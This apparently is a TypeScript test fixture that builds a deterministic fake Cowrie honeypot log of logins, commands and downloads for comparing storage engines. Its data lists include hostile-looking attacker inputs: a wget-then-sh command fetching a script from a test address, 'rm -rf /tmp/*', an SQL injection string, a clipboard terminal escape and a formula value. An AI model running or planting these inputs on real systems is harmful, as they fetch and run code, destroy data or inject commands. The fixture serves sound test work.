// A small log that holds every nastiness a store has to live with, the same on every run: what the engines are compared on.

/** An event as a line of `cowrie.json` has it. */
export type Event = Record<string, unknown> & { eventid: string; timestamp: string };

/** Late on the first evening: sessions run over midnight. */
export const START = Date.UTC(2026, 1, 27, 21, 30);
const MINUTE = 60_000;
const DAY = 24 * 60 * MINUTE;

// Empty, blank, quoted, escaped, hostile, beyond the basic plane, and what sorts differently by code points and by UTF-16 units.
// biome-ignore format: one list, a few lines
const USERS = ['root', 'root', 'root', 'admin', 'Admin', '', ' ', 'pi', 'a\0b', 'ｒｏｏｔ', '\uff5e', '\u{1f600}', "o'neil", 'x"y', 'back\\slash', '管理者'];
// biome-ignore format: one list, a few lines
const PASSWORDS = [
  '123456', '123456', 'root', '', 'p\0', '\0', '\u{10348}', '\uffee', 'é', 'e\u0301', "';DROP TABLE session;--", '{x:String}', '?', '%', '_', '\\', '\t',
  'a\r\nb', '\u2028', '=1+1', '\u001b]52;c;Zm9v\u0007', 'Ａ', 'ß', 'null', 'NULL', '\\N', '0', '00', '1e3',
];
// biome-ignore format: one list, a few lines
const COMMANDS = [
  'uname -a', 'uname -a', 'cd /tmp', '', ' ', 'echo "a b" | sh', 'wget http://198.51.100.9/x.sh; sh x.sh', 'cat /proc/cpuinfo | grep name', 'ls\0-la',
  `echo ${'A'.repeat(9000)}`, 'echo 観察記', 'echo \u{1f600}\uff5e', '\\x41\\', "awk '{print $1}'", 'busybox WOPBOT', '/bin/busybox wopbot', 'rm -rf /tmp/*',
];
const CLIENTS = ['SSH-2.0-Go', 'SSH-2.0-libssh_0.9.6', 'SSH-2.0-PUTTY', '', 'GET / HTTP/1.1', 'SSH-2.0-\u{1f600}'];
const HASSH = [
  '0a07365cc01fa9fc82608ba4019af499',
  'f555226df1963d1d3c09daf865abdc9a',
  '92674389fa1e47a27ddd8d9b63ecd42b',
];
const URLS = ['http://198.51.100.9/x.sh', 'http://198.51.100.9/y?a=1&b=2', 'ftp://192.0.2.4/z', 'http://例え.jp/あ'];
const SENSORS = ['trap-1', 'trap-1', 'trap-2', '', 'センサー'];

/** A generator of whole numbers below its argument, the same for the same seed. */
export function dice(seed: number): (sides: number) => number {
  let state = seed >>> 0 || 1;
  return (sides) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    state >>>= 0;
    return state % sides;
  };
}

/** The time stamp of Cowrie, microseconds since the epoch. */
export function stamp(micros: number): string {
  const ms = Math.floor(micros / 1000);
  return `${new Date(ms).toISOString().slice(0, -1)}${String(micros - ms * 1000).padStart(3, '0')}Z`;
}

const hash = (n: number): string => (n + 1).toString(16).padStart(64, 'e3');

/**
 * The log in order of time (then sensor, then session), about 20 events a session over four days. Some lines are there twice.
 */
export function goldenLog(sessions = 220): Event[] {
  const roll = dice(20260227);
  const pick = <T>(list: readonly T[]): T => list[roll(list.length)]!;
  const events: { micros: number; event: Event }[] = [];
  for (let number = 0; number < sessions; number++) {
    // Every seventh begins in the same millisecond as the one before it, a few in the very microsecond.
    const begin = START + Math.floor((number - (number % 7 === 6 ? 1 : 0)) * ((3.6 * DAY) / sessions));
    let micros = begin * 1000 + (number % 21 === 20 ? 5 : roll(1000));
    const sensor = pick(SENSORS);
    const telnet = number % 5 === 3;
    const address = pick([
      '192.0.2.1',
      '192.0.2.1',
      '198.51.100.7',
      '203.0.113.250',
      '2001:db8::1',
      `10.0.${roll(4)}.${roll(9)}`,
    ]);
    const envelope = {
      session: (0x100000000000 + number * 7919).toString(16),
      protocol: telnet ? 'telnet' : 'ssh',
      src_ip: address,
      src_port: 1024 + roll(60000),
      dst_ip: '198.51.100.1',
      dst_port: telnet ? 23 : 22,
    };
    const add = (eventid: string, fields: Record<string, unknown> = {}, message = '') => {
      events.push({
        micros,
        event: { ...envelope, ...fields, eventid, sensor, uuid: `id-${sensor}`, timestamp: stamp(micros), message },
      });
      // Mostly quick; some sessions stay for hours, over midnight, or for days.
      const pause = number % 29 === 11 ? roll(9 * 60 * MINUTE) : number % 13 === 5 ? roll(70 * MINUTE) : roll(4000);
      micros += pause * 1000 + roll(1000);
    };
    // Some logs begin in the middle of a session.
    if (number % 17 !== 4)
      add(
        'cowrie.session.connect',
        {},
        `New connection: ${address}:${envelope.src_port} (198.51.100.1:${envelope.dst_port}) [session: ${envelope.session}]`,
      );
    if (!telnet) {
      const version = pick(CLIENTS);
      add('cowrie.client.version', { version }, `Remote SSH version: ${version}`);
      const hassh = pick(HASSH);
      if (number % 4 > 0)
        add(
          'cowrie.client.kex',
          { hassh, hasshAlgorithms: `a;b;c${roll(3)}`, kexAlgs: ['curve25519-sha256', 'x'], keyAlgs: ['ssh-ed25519'] },
          `SSH client hassh fingerprint: ${hassh}`,
        );
    }
    for (let tries = roll(6); tries > 0; tries--) {
      const [username, password] = [pick(USERS), pick(PASSWORDS)];
      add('cowrie.login.failed', { username, password }, `login attempt [${username}/${password}] failed`);
    }
    if (number % 23 === 7)
      add(
        'cowrie.login.failed',
        { username: 'key', fingerprint: 'SHA256:x', type: 'ssh-rsa' },
        'public key attempt for user key of type ssh-rsa with fingerprint SHA256:x failed',
      );
    if (number % 31 === 9)
      add(
        'kansatsuki.login.proof',
        { username: pick(USERS), scheme: 'cram-md5', challenge: '00', response: 'ff' },
        'login proof',
      );
    if (number % 3 > 0) {
      const [username, password] = [pick(USERS), pick(PASSWORDS)];
      add('cowrie.login.success', { username, password }, `login attempt [${username}/${password}] succeeded`);
      add('cowrie.client.size', { width: 80 + roll(3), height: 24 }, 'Terminal Size: 80 24');
      if (number % 11 === 2)
        add(
          'cowrie.log.open',
          { ttylog: `log/tty/20260301-${number}.log` },
          `Opening TTY Log: log/tty/20260301-${number}.log`,
        );
      for (let lines = roll(9); lines > 0; lines--) {
        const input = pick(COMMANDS);
        add('cowrie.command.input', { input }, `CMD: ${input}`);
        if (lines === 2) add('cowrie.command.failed', { input: 'nosuch -x' }, 'Command not found: nosuch -x');
        if (lines === 4)
          add(
            'kansatsuki.session.line',
            { input, commands: [{ name: 'x', arguments: ['\0'] }], duration_ms: roll(50), exit_code: roll(2) },
            '',
          );
      }
      if (number % 4 === 1) {
        const [url, shasum] = [pick(URLS), hash(roll(4))];
        add('kansatsuki.session.download_request', { url, tool: 'wget', policy: 'fetch' }, `download ${url}`);
        add(
          'kansatsuki.session.download_result',
          { url: pick(URLS), tool: 'wget', bytes: roll(99), status: 200 },
          'result',
        );
        add(
          'cowrie.session.file_download',
          { url, shasum, outfile: `var/dl/${shasum}`, destfile: '/tmp/x', duplicate: roll(2) === 1 },
          `Downloaded URL (${url}) with SHA-256 ${shasum} to var/dl/${shasum}`,
        );
      }
      if (number % 8 === 5) add('cowrie.session.file_download.failed', { url: pick(URLS) }, 'failed');
      if (number % 9 === 4) {
        const shasum = hash(3 + roll(2));
        add('cowrie.session.file_upload', { shasum, filename: 'up\u{1f600}', outfile: `var/dl/${shasum}` }, 'uploaded');
      }
      if (number % 6 === 1)
        add(
          'cowrie.direct-tcpip.request',
          { dst_ip: 'example.com', dst_port: 80, orig_ip: '127.0.0.1', orig_port: 5 },
          'direct-tcp connection request to example.com:80 from 127.0.0.1:5',
        );
      if (number % 2 === 0)
        add(
          'cowrie.log.closed',
          {
            shasum: hash(9 + roll(3)),
            ttylog: `var/tty/${hash(9 + roll(3))}`,
            size: 7,
            duplicate: false,
            duration_ms: 5,
          },
          'Closing TTY Log',
        );
    }
    // Some are still open, or their end was lost.
    if (number % 19 !== 3)
      add('cowrie.session.closed', { duration_ms: Math.floor(micros / 1000) - begin }, 'Connection lost');
  }
  // Of no connection, one in the midnight minute.
  for (const at of [START + 1, Math.ceil(START / DAY) * DAY, START + 2 * DAY])
    events.push({
      micros: at * 1000 + 7,
      event: {
        eventid: 'kansatsuki.sensor.started',
        sensor: 'trap-1',
        uuid: 'id-trap-1',
        timestamp: stamp(at * 1000 + 7),
        message: 'sensor started',
        version: '1',
        persona: 'p',
        listeners: [],
      },
    });
  events.sort((a, b) => a.micros - b.micros || order(a.event, b.event));
  // Lines that a copied log repeats: one in twenty, right after itself.
  return events.flatMap(({ event }, i) => (i % 20 === 13 ? [event, { ...event }] : [event]));
}

const order = (a: Event, b: Event): number => {
  const key = (event: Event) => Buffer.from(`${event['sensor'] ?? ''}\0${event['session'] ?? ''}`);
  return Buffer.compare(key(a), key(b));
};

/** Ranges of every kind: none, whole days and hours, both ends open in odd places, a millisecond, before and after everything. */
export function ranges(count: number, seed = 7): ({ from: number; to: number } | undefined)[] {
  const roll = dice(seed);
  const midnight = Math.ceil(START / DAY) * DAY;
  const fixed = [
    undefined,
    { from: midnight, to: midnight + DAY },
    { from: midnight - DAY, to: midnight + 3 * DAY },
    { from: midnight, to: midnight + 60 * MINUTE },
    { from: midnight - 1, to: midnight + 1 },
    { from: START - 30 * DAY, to: START - 29 * DAY },
    { from: START + 300 * DAY, to: START + 301 * DAY },
    { from: 0, to: Date.UTC(2100, 0) },
    { from: START + 1, to: START + 2 },
  ];
  const span = 5 * DAY;
  const random = Array.from({ length: Math.max(0, count - fixed.length) }, (_, i) => {
    const unit = [1, 1000, MINUTE, 60 * MINUTE][i % 4]!;
    const at = () => Math.floor((START - DAY / 2 + roll(span)) / unit) * unit;
    const [a, b] = [at(), at()];
    return { from: Math.min(a, b), to: Math.max(a, b) + unit };
  });
  return [...fixed, ...random];
}
